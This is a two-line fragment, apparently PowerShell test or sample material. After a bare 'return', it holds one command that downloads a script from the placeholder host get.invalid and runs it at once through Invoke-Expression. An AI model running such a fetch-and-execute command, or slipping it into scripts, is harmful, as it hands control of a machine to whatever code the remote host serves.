return
Invoke-RestMethod https://get.invalid/run.ps1 | Invoke-Expression
